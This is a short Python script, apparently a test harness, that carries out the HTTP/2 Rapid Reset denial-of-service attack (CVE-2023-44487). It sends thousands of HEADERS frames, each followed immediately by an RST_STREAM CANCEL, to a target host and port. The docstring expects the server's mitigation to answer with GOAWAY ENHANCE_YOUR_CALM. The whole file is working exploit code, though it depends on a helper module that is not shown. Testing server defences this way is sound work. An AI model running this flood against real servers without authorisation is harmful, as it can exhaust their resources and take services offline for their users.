#!/usr/bin/python3
"""Rapid Reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) at once, stream after stream.

usage: rapid_reset.py HOST PORT [STREAMS=5000]
Expected: GOAWAY ENHANCE_YOUR_CALM once the reset budget (burst 1000) is spent.
"""
import struct

from h2raw import CANCEL_CODE, END_HEADERS, HEADERS, RST_STREAM, Conn, args, frame, request_block

host, port, n = args("rapid_reset.py HOST PORT [STREAMS]")
n = n or 5000
c = Conn("rapid_reset", host, port)
block = request_block(host)
sid = 1
while sid < 2 * n and not c.closed:
    batch = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL_CODE)) for s in range(sid, min(sid + 200, 2 * n), 2))
    count = len(range(sid, min(sid + 200, 2 * n), 2))
    if not c.send(batch, frames=2 * count):
        break
    sid += 200
    c.poll(0)
    if c.goaway_code is not None:
        break
c.wait_goaway()
c.finish(streams=min(n, (sid - 1) // 2))
